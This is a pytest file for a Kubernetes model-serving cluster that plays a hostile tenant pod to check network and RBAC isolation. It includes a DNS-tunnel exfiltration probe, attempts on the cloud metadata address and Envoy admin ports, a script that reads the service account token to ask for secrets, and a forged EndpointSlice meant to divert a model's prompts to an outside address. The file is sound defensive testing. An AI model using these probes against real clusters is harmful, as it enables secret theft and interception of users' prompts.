"""A hostile pod of a tenant, and the same probes from where models, gateways and the operator run.

Every probe that has to fail is made once more where it has to succeed: else it could be the probe that fails.
"""

import json
import subprocess
import sys
from collections.abc import Iterator, Mapping
from contextlib import contextmanager
from typing import Any

import pytest
from hack.cluster import network
from hack.images.build import build_image
from tests.cluster.conftest import Bed, model

pytestmark = pytest.mark.long
"""Minutes long."""

SYSTEM = "smallmodel-system"
METADATA = "169.254.169.254"
ADMIN = (9901, 15000, 19000)
"""Where Envoy's admin interface is usually found."""
GATE = {"app.kubernetes.io/name": "smallmodel-gateway", "app.kubernetes.io/component": "gateway"}

PROBE = """
import json, socket, sys, threading, time

def tcp(host, port):
    socket.create_connection((host, port), 4).close()

def dns(host, port):  # asks for a name that carries something, as a tunnel does
    name = b"".join(bytes([len(part)]) + part for part in (b"c2VjcmV0", b"tunnel", b"example")) + b"\\0"
    asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    asker.settimeout(4)
    head = b"\\x12\\x34\\x01\\x00\\x00\\x01" + b"\\0" * 6
    asker.sendto(head + name + b"\\0\\x01\\0\\x01", (host, port))
    asker.recv(512)

def probe(found, name, kind, host, port):
    try:
        {"tcp": tcp, "dns": dns}[kind](host, port)
        found[name] = "open"
    except OSError as error:
        found[name] = type(error).__name__

def all_at_once(where):
    found = {}
    threads = [threading.Thread(target=probe, args=(found, name, *what)) for name, what in where.items()]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return found

where, wanted = json.loads(sys.argv[1])
end = time.monotonic() + 30  # policies come into force a moment after a pod has begun
while True:
    found = all_at_once(where)
    if {name for name, how in found.items() if how == "open"} == set(wanted) or time.monotonic() > end:
        break
    time.sleep(0.2)
print(json.dumps(found))
"""

ASK = """
import json, ssl, sys, urllib.error, urllib.request
folder = "/var/run/secrets/kubernetes.io/serviceaccount"
token = open(f"{folder}/token").read()
trust = ssl.create_default_context(cafile=f"{folder}/ca.crt")
for method, url, body in json.loads(sys.argv[1]):
    data = json.dumps(body).encode() if body else None
    headers = {"Authorization": f"Bearer {token}", "Content-Type": "application/json"}
    request = urllib.request.Request(url, data=data, headers=headers, method=method)
    try:
        with urllib.request.urlopen(request, timeout=10, context=trust) as answer:
            print(json.dumps([answer.status, ""]))
    except urllib.error.HTTPError as error:
        print(json.dumps([error.code, error.read().decode()]))
"""

Where = Mapping[str, tuple[str, str, int]]


def pod(bed: Bed, namespace: str, name: str, code: str, said: Any, labels: Mapping[str, str] | None = None) -> str:
    """What a pod prints that runs `code`, with the token of its account `hostile` where there is one."""
    account = bool(bed.get("serviceaccount", "hostile", namespace))
    closed = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
    container = {
        "name": "app",
        "image": build_image("toolbox").reference,
        "imagePullPolicy": "IfNotPresent",
        "command": ["python3", "-c", code, json.dumps(said)],
        "securityContext": closed,
    }
    spec = {
        "restartPolicy": "Never",
        "terminationGracePeriodSeconds": 0,
        "serviceAccountName": "hostile" if account else "default",
        "automountServiceAccountToken": account,
        "securityContext": {"runAsNonRoot": True, "runAsUser": 65532, "seccompProfile": {"type": "RuntimeDefault"}},
        "containers": [container],
    }
    meta = {"name": name, "namespace": namespace, "labels": dict(labels or {})}
    bed.apply({"apiVersion": "v1", "kind": "Pod", "metadata": meta, "spec": spec})
    bed.until(lambda: bed.get("pod", name, namespace)["status"].get("phase") in ("Succeeded", "Failed"), 90, name)
    out = bed.kubectl("-n", namespace, "logs", name)
    bed.kubectl("-n", namespace, "delete", "pod", name, "--wait=true")
    return out


def opened(said: str) -> set[str]:
    """Of what the probes print: those that got through."""
    print(said)  # shown when a test fails: refused, or never answered?
    return {name for name, how in json.loads(said).items() if how == "open"}


def tries(
    bed: Bed, namespace: str, name: str, where: Where, wanted: set[str], labels: Mapping[str, str] | None = None
) -> set[str]:
    """Which probes of a pod of that namespace get through, once policies are in force; `wanted` ends the wait."""
    return opened(pod(bed, namespace, name, PROBE, [where, sorted(wanted)], labels))


def inside(bed: Bed, workload: str, container: str, where: Where, wanted: set[str]) -> set[str]:
    """The same from a container of the release."""
    said = json.dumps([where, sorted(wanted)])
    words = ("-n", SYSTEM, "exec", workload, "-c", container, "--", "python3", "-c", PROBE, said)
    return opened(bed.kubectl(*words))


def from_node(bed: Bed, host: str, port: int) -> bool:
    """The node reaches every pod past the policies: it probes their health."""
    knock = [*bed.node.prefix, "timeout", "4", "bash", "-c", f"exec 3<>/dev/tcp/{host}/{port}"]
    return subprocess.run(knock, capture_output=True).returncode == 0


def address(bed: Bed, selector: str, namespace: str = SYSTEM) -> str:
    pods = bed.items("pods", namespace, selector)
    running = (p for p in pods if p["status"].get("phase") == "Running" and not p["metadata"].get("deletionTimestamp"))
    return str(next(running)["status"]["podIP"])


def listening(bed: Bed, selector: str, port: int, namespace: str = SYSTEM) -> str:
    """The address of a pod that takes connections there: one that is being replaced may stop between two looks."""

    def look() -> str:
        host = address(bed, selector, namespace)
        return host if from_node(bed, host, port) else ""

    return str(bed.until(look, 60, f"somebody listens at {port} of {selector}"))


@contextmanager
def metadata_server(bed: Bed) -> Iterator[None]:
    """A server on the node where clouds have theirs."""
    within = network.prefix(bed.node.name)
    subprocess.run([*within, "ip", "address", "add", f"{METADATA}/32", "dev", "lo"], check=True)
    # Not whatever `python3` is on the path: a wrapper would be ended in the server's place.
    command = [*within, sys.executable, "-m", "http.server", "80", "--bind", METADATA, "-d", "/var/empty"]
    server = subprocess.Popen(command)
    knock = [*within, "bash", "-c", f"exec 3<>/dev/tcp/{METADATA}/80"]
    try:
        bed.until(lambda: subprocess.run(knock, capture_output=True).returncode == 0, 90, "the metadata server listens")
        yield
    finally:
        server.kill()
        server.wait()
        subprocess.run([*within, "ip", "address", "del", f"{METADATA}/32", "dev", "lo"], check=True)


@pytest.fixture
def served(bed: Bed, namespace: str, weights: dict[str, str]) -> str:
    """The namespace of a model that answers."""
    bed.apply(model("bot", namespace, weights["first"]))
    bed.ready("bot", namespace)
    return namespace


@pytest.fixture
def other(bed: Bed, namespace: str) -> Iterator[str]:
    """Another tenant's namespace."""
    name = f"{namespace[:30].strip('-')}-other"
    bed.apply({"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": name}})
    bed.kubectl("wait", "--for=create", "serviceaccount/default", "-n", name, "--timeout=30s")
    yield name
    bed.kubectl("delete", "namespace", name, "--wait=false", check=False)


def test_a_tenants_pod_reaches_the_gateways_door_and_nothing_else(bed: Bed, served: str, other: str) -> None:
    # Else not reaching them proves nothing.
    engine = listening(bed, "smallmodel.dev/role=server", 8080, served)
    gateway = listening(bed, "app.kubernetes.io/component=gateway", 10090)
    assert from_node(bed, gateway, 10091)
    operator = listening(bed, "app.kubernetes.io/component=operator", 8081)
    forbidden: dict[str, tuple[str, str, int]] = {
        "the engine": ("tcp", engine, 8080),
        "the activator": ("tcp", gateway, 10090),
        "the agent": ("tcp", gateway, 10091),
        "the operator's metrics": ("tcp", operator, 8081),
    }
    admin = {f"admin on {port}": ("tcp", gateway, port) for port in ADMIN}
    door = {"the door": ("tcp", gateway, 10080)}
    for namespace in (served, other):
        assert tries(bed, namespace, "hostile", {**forbidden, **admin, **door}, {"the door"}) == {"the door"}
    assert not any(from_node(bed, gateway, port) for port in ADMIN), "the admin interface is on no port at all"
    # The same probe from where it may: what looks like a gateway, in the gateways' namespace, reaches the engine.
    engines = {"the engine": forbidden["the engine"]}
    assert tries(bed, SYSTEM, "control", engines, {"the engine"}, GATE) == {"the engine"}
    assert tries(bed, served, "disguised", engines, set(), GATE) == set(), "only in the gateways' namespace"


def test_who_sees_prompts_reaches_no_name_server_and_no_metadata(bed: Bed, served: str) -> None:
    names = str(bed.get("service", "kube-dns", "kube-system")["spec"]["clusterIP"])
    where: dict[str, tuple[str, str, int]] = {
        "a tunnel over DNS": ("dns", names, 53),
        "DNS over TCP": ("tcp", names, 53),
        "metadata": ("tcp", METADATA, 80),
    }
    engine = {"the engine": ("tcp", address(bed, "smallmodel.dev/role=server", served), 8080)}
    api = {"the API server": ("tcp", str(bed.get("service", "kubernetes", "default")["spec"]["clusterIP"]), 443)}
    with metadata_server(bed):
        # Nothing of ours is about a tenant's other pods: the control of every probe below.
        assert tries(bed, served, "control", where, set(where)) == set(where)
        assert tries(bed, served, "as-a-model", {**where, **api}, set(), {"smallmodel.dev/model": "bot"}) == set()
        mine = {"the engine", "the API server"}
        assert inside(bed, "smallmodel-gateway-0", "agent", {**where, **engine, **api}, mine) == mine
        gateway = address(bed, "app.kubernetes.io/component=gateway")
        assert from_node(bed, gateway, 10091), "the agent listens"
        agent = {"the agent": ("tcp", gateway, 10091)}
        mine = {"the agent", "the engine", "the API server"}  # the engine: golden prompts, and its speed
        everything = {**where, **engine, **api, **agent}
        assert inside(bed, "deploy/smallmodel-operator", "operator", everything, mine) == mine


def test_a_tenants_token_opens_nothing_and_redirects_no_prompt(bed: Bed, served: str) -> None:
    meta = {"name": "hostile", "namespace": served}
    rbac = "rbac.authorization.k8s.io"
    rule = {"apiGroups": ["discovery.k8s.io"], "resources": ["endpointslices"], "verbs": ["*"]}
    role = {"apiGroup": rbac, "kind": "Role", "name": "hostile"}
    subject = {"kind": "ServiceAccount", "name": "hostile", "namespace": served}
    bed.apply({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": meta})
    bed.apply({"apiVersion": f"{rbac}/v1", "kind": "Role", "metadata": meta, "rules": [rule]})
    binding = {"apiVersion": f"{rbac}/v1", "kind": "RoleBinding", "metadata": meta}
    bed.apply({**binding, "roleRef": role, "subjects": [subject]})
    api = "https://kubernetes.default.svc"
    slices = f"{api}/apis/discovery.k8s.io/v1/namespaces/{served}/endpointslices"
    questions = [
        ("GET", f"{api}/api/v1/namespaces/{SYSTEM}/secrets", None),
        ("GET", f"{api}/api/v1/namespaces/{served}/secrets/bot-engine-key", None),
        ("GET", f"http://{bed.gateway()}/{served}/v1/models", None),  # its own token has another audience
        ("POST", slices, away(served, "mine", {})),
        ("POST", slices, away(served, "theirs", {"smallmodel.dev/model": "bot"})),
    ]
    out = pod(bed, served, "hostile", ASK, questions)
    answers = [tuple(json.loads(line)) for line in out.splitlines()]
    assert [code for code, _ in answers] == [403, 403, 401, 201, 403], answers
    assert "say where prompts go" in answers[-1][1]
    # Kubernetes itself went on writing the model's own, so it is there and answers.
    found = bed.items("endpointslices", served, "smallmodel.dev/model=bot")
    engine = address(bed, "smallmodel.dev/role=server", served)
    assert [a for s in found for e in s["endpoints"] for a in e["addresses"]] == [engine]


def away(namespace: str, name: str, labels: dict[str, str]) -> dict[str, Any]:
    """A slice that would send a model's prompts out, right in everything else."""
    marks = {
        "kubernetes.io/service-name": "bot-pods",
        "endpointslice.kubernetes.io/managed-by": "endpointslice-controller.k8s.io",
    }
    target = {"kind": "Pod", "namespace": namespace, "name": "bot"}
    endpoint = {"addresses": ["203.0.113.9"], "conditions": {"ready": True}, "targetRef": target}
    return {
        "apiVersion": "discovery.k8s.io/v1",
        "kind": "EndpointSlice",
        "metadata": {"name": name, "namespace": namespace, "labels": {**labels, **(marks if labels else {})}},
        "addressType": "IPv4",
        "ports": [{"name": "http", "port": 8080, "protocol": "TCP"}],
        "endpoints": [endpoint],
    }
